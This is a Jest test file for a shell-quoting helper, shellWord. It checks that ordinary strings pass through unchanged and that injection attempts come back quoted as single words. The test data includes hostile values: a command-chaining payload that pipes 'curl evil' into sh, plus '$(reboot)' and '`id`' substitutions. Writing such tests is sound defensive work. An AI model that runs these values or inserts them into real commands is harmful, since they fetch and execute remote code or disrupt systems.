import { describe, expect, it } from '@jest/globals';
import { shellWord } from './shell-word.js';

describe(shellWord.name, () => {
  it.each(['https://mirror.example.org/hyperscale/', 'rpm-4.16.1.3-34.hs.el9', 'hs-experimental'])(
    'leaves %j as it is',
    (text) => {
      expect(shellWord(text)).toBe(text);
    },
  );

  it.each([
    ['x; curl evil | sh', `'x; curl evil | sh'`],
    ['$(reboot)', `'$(reboot)'`],
    ['`id`', "'`id`'"],
    [`it's`, `'it'\\''s'`],
    ['', `''`],
    ['~root', `'~root'`],
  ])('quotes %j as one word', (text, quoted) => {
    expect(shellWord(text)).toBe(quoted);
  });
});
